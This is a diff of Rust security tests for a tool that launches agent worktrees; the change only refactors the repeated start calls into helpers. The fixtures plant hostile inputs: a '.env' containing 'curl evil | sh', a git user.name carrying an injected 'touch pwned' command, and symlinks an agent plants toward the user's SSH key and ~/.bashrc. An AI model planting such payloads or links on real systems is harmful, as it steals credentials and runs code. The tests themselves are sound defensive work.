@@ -52,9 +52,9 @@ impl Host {
         stdout(&out)
     }
 
-    /// `start -w NAME` detached in `repo`; the instance id.
-    fn start_w(&self, repo: &Path, name: &str) -> String {
-        self.ok(
+    /// `start -w NAME` detached in `repo`, on the host runtime.
+    fn try_start_w(&self, repo: &Path, name: &str) -> Output {
+        self.run(
             repo,
             &[
                 "start",
@@ -66,7 +66,13 @@ impl Host {
                 "-w",
                 name,
             ],
-        );
+        )
+    }
+
+    /// [`Host::try_start_w`], which must succeed; the instance id.
+    fn start_w(&self, repo: &Path, name: &str) -> String {
+        let out = self.try_start_w(repo, name);
+        assert!(out.status.success(), "start -w {name}: {}", stderr(&out));
         format!(
             "{}-{name}-claude",
             repo.file_name().unwrap().to_string_lossy()
@@ -243,19 +249,7 @@ fn nothing_runs(hooks_path: bool) {
     host.ok(&repo, &["worktree", "list", "--quiet"]);
     host.ok(&repo, &["list"]);
     host.ok(&repo, &["show", &one]);
-    host.ok(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "one",
-        ],
-    );
+    host.start_w(&repo, "one");
     host.ok(&repo, &["rm", "--force", "--worktree", &one]);
     assert!(!wt.exists(), "removed");
     host.ok(&repo, &["rm", "--force", "--worktree", &two]);
@@ -318,19 +312,7 @@ fn copy_does_not_read_a_symlinked_env_into_the_worktree() {
     // The agent, in the project, makes `.env` a link to the user's key.
     std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
     std::fs::write(repo.join("ok.txt"), "copied\n").unwrap();
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "x",
-        ],
-    );
+    let out = host.try_start_w(&repo, "x");
     assert!(out.status.success(), "the start goes on: {}", stderr(&out));
     let wt = repo.with_file_name(format!("{name}.worktrees")).join("x");
     assert!(
@@ -362,19 +344,7 @@ fn copy_does_not_write_through_a_committed_symlink() {
     git(&repo, &["checkout", "-q", "main"]);
     // … and leaves a payload as the project's own `.env`.
     std::fs::write(repo.join(".env"), "curl evil | sh\n").unwrap();
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "evil",
-        ],
-    );
+    let out = host.try_start_w(&repo, "evil");
     assert!(out.status.success(), "the start goes on: {}", stderr(&out));
     assert_eq!(
         std::fs::read_to_string(home.join(".bashrc")).unwrap(),
@@ -402,19 +372,7 @@ fn copy_does_not_truncate_the_file_a_committed_symlink_names() {
     std::os::unix::fs::symlink(home.join(".ssh/id_ed25519"), repo.join(".env")).unwrap();
     git(&repo, &["add", ".env"]);
     git(&repo, &["commit", "-q", "-m", "env"]);
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "y",
-        ],
-    );
+    let out = host.try_start_w(&repo, "y");
     assert!(out.status.success(), "the start goes on: {}", stderr(&out));
     assert_eq!(
         std::fs::read_to_string(home.join(".ssh/id_ed25519")).unwrap(),
@@ -499,19 +457,7 @@ fn other_repo(env: &Env, name: &str) -> PathBuf {
 /// A `-w` start that must be refused with the reason, leaving `other`'s
 /// `.git` without a worktree of ours.
 fn refused_outside(host: &Host, repo: &Path, other: &Path, wt: &str) {
-    let out = host.run(
-        repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            wt,
-        ],
-    );
+    let out = host.try_start_w(repo, wt);
     assert!(!out.status.success(), "started: {}", stdout(&out));
     let err = stderr(&out);
     assert!(err.contains("outside the repository"), "{err}");
@@ -586,32 +532,8 @@ fn two_repositories_with_one_basename_do_not_share_worktrees() {
         git(r, &["add", "who"]);
         git(r, &["commit", "-q", "-m", "init"]);
     }
-    host.ok(
-        &a,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "feat",
-        ],
-    );
-    host.ok(
-        &b,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "feat",
-        ],
-    );
+    host.start_w(&a, "feat");
+    host.start_w(&b, "feat");
     let reg = host.env.registry();
     let mut seen: Vec<(String, String)> = reg["instances"]
         .as_object()
@@ -758,19 +680,7 @@ fn a_start_killed_mid_checkout_leaves_no_half_worktree_to_reuse() {
         );
     }
     let wt = interrupted.expect("no start was caught mid-checkout in 5 tries");
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            &wt,
-        ],
-    );
+    let out = host.try_start_w(&repo, &wt);
     if out.status.success() {
         assert_eq!(
             count_files(&base.join(&wt)),
@@ -839,19 +749,7 @@ fn a_core_worktree_the_agent_set_does_not_make_home_the_repository() {
         format!("{text}[core]\n\tworktree = {}\n", above.display()),
     )
     .unwrap();
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "x",
-        ],
-    );
+    let out = host.try_start_w(&repo, "x");
     let leaked = walk_for(&above, "HOME SECRET");
     assert!(leaked.is_empty(), "the secret was copied to {leaked:?}");
     assert!(!out.status.success(), "started: {}", stdout(&out));
@@ -987,19 +885,7 @@ fn a_submodule_is_a_repository_of_its_own_for_worktrees() {
     );
     let sub = sup.join("sub");
     assert!(sub.join(".git").is_file(), "a submodule's .git is a file");
-    let out = host.run(
-        &sub,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "x",
-        ],
-    );
+    let out = host.try_start_w(&sub, "x");
     assert!(out.status.success(), "{}", stderr(&out));
     host.ok(&sub, &["rm", "--force", "--worktree", "sub-x-claude"]);
 }
@@ -1060,19 +946,7 @@ fn worktree_add_does_not_append_a_reflog_through_a_planted_link() {
     std::os::unix::fs::symlink(home.join(".bashrc"), logs.join("x")).unwrap();
     let payload = format!("x; touch {}; echo", home.join("pwned").display());
     git(&repo, &["config", "user.name", &payload]);
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "x",
-        ],
-    );
+    let out = host.try_start_w(&repo, "x");
     let rc = std::fs::read_to_string(home.join(".bashrc")).unwrap();
     assert!(
         !rc.contains("pwned"),
@@ -1100,19 +974,7 @@ fn copy_does_not_fill_the_disk_from_a_sparse_file() {
     let f = std::fs::File::create(repo.join(".env")).unwrap();
     f.set_len(1 << 40).unwrap();
     drop(f);
-    let out = host.run(
-        &repo,
-        &[
-            "start",
-            "--mode",
-            "claude",
-            "--detach",
-            "--runtime",
-            "host",
-            "-w",
-            "s",
-        ],
-    );
+    let out = host.try_start_w(&repo, "s");
     assert!(out.status.success(), "the start goes on: {}", stderr(&out));
     let wt = repo.with_file_name(format!("{name}.worktrees")).join("s");
     assert!(
